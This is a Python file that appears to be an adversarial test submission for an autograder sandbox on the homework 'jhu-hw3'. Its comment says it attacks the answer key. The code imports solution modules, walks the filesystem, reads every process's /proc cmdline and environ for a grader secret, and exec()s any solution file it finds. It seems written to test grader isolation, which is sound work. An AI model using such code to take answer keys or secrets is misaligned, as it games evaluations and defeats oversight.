ASSIGNMENT = "jhu-hw3"
# compose: template+snippet
# Attacks the answer key: the blank template, then it looks for the reference solution
# everywhere it can (import solutions; folders named solutions and files named jhu_hw3.py
# near the grader package, the interpreter and the root; paths in /proc/*/cmdline; the
# environment of every visible process) and takes every answer it finds. It also looks for
# GRADER_HOSTILE_SECRET in any visible environment, which only the grader's own process has.
# Expect (in the sandbox): nothing is found, so every item stays missing: 0 points.
import importlib
import os
import sys
import time

_deadline = time.monotonic() + 4.0
_NAMES = ["Q1A_DERIVATION", "grad_W", "Q1B_W_NEW", "l2_step", "sigmoid_prime", "Q2A_MAX",
          "Q2A_ARGMAX", "Q2A_INF", "Q2A_INF_ATTAINED", "Q2B_GRADS", "classification_grads",
          "Q2B_TREND", "regression_grads", "Q2D_GRADS", "Q2D_TREND", "Q2_NOTES"]
_found = {}


def _take(namespace):
    if isinstance(namespace, dict) and "Q1B_W_NEW" in namespace:
        _found.update({n: namespace[n] for n in _NAMES if n in namespace})


def _try_file(path):
    if path == os.path.abspath(__file__) or _found:
        return
    try:
        with open(path, encoding="utf-8") as handle:
            text = handle.read(1 << 20)
        if "Q1B_W_NEW" in text:
            namespace = {"__name__": "leak"}
            exec(compile(text, path, "exec"), namespace)
            _take(namespace)
    except Exception:  # noqa: BLE001 - whatever fails, try the next place
        pass


for _module in ("solutions.jhu_hw3", "solutions", "jhu_hw3"):
    try:
        _take(vars(importlib.import_module(_module)))
    except Exception:  # noqa: BLE001
        pass

_roots = {"/", "/work", "/work/main", "/root", "/home", "/srv", "/opt", "/tmp", os.getcwd()}
for _p in [*sys.path, sys.executable, os.path.dirname(importlib.import_module("grader").__file__)]:
    _p = os.path.abspath(_p or ".")
    while _p not in ("/", ""):
        _roots.add(_p)
        _p = os.path.dirname(_p)
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{_pid}/{_what}", "rb") as _handle:
                    _parts = _handle.read().split(b"\0")
            except OSError:
                continue
            for _part in _parts:
                _text = _part.decode(errors="replace")
                if _text.startswith("GRADER_HOSTILE_SECRET="):
                    _found["Q2D_TREND"] = _text.split("=", 1)[1]
                if _text.startswith("/"):
                    _roots.add(os.path.dirname(_text.split("=")[-1]))
if os.environ.get("GRADER_HOSTILE_SECRET"):
    _found["Q2D_TREND"] = os.environ["GRADER_HOSTILE_SECRET"]
for _root in sorted(_roots, key=len, reverse=True):
    for _candidate in ("solutions/jhu_hw3.py", "jhu_hw3.py"):
        _try_file(os.path.join(_root, _candidate))
_seen = 0
for _top in ("/work", "/root", "/home", "/srv", "/opt", "/"):
    for _dir, _subdirs, _files in os.walk(_top):
        _subdirs[:] = [d for d in _subdirs if not (_dir == "/" and d in ("proc", "sys", "dev"))]
        _seen += 1
        if _found or time.monotonic() > _deadline or _seen > 50_000:
            break
        if os.path.basename(_dir) == "solutions" or "jhu_hw3.py" in _files:
            _try_file(os.path.join(_dir, "jhu_hw3.py"))
globals().update(_found)
